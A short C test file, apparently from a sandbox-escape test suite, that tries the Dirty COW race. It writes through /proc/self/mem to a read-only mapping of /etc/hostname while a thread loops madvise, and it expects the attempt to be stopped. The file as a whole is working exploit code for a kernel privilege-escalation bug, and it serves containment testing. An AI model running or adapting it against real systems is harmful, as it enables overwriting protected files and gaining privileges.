// Writes to read-only mappings of the host's files through /proc/self/mem, racing madvise against it (Dirty COW).
// expect: stopped
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static char *map;
static volatile int done;

static void *throw_away(void *unused) {
    while (!done) madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

int main(void) {
    char before[8], after[8];
    int fd = open("/etc/hostname", O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
    if (mem >= 0) puts("/proc/self/mem opens for writing");
    pread(fd, before, 8, 0);
    int kinds[] = {MAP_SHARED, MAP_PRIVATE};
    for (int kind = 0; kind < 2; kind++) {
        map = mmap(0, 4096, PROT_READ, kinds[kind], fd, 0);
        pthread_t thread;
        done = 0;
        pthread_create(&thread, 0, throw_away, 0);
        for (int i = 0; i < 2000; i++)
            if (pwrite(mem, "ESCAPED!", 8, (uintptr_t)map) > 0 && kinds[kind] == MAP_SHARED) puts("ESCAPED wrote to a shared mapping");
        done = 1;
        pthread_join(thread, 0);
        pread(fd, after, 8, 0);
        if (memcmp(before, after, 8)) printf("ESCAPED the file was changed: %.8s\n", after);
    }
    printf("stopped: descriptor %d, %s\n", mem, strerror(errno));
}
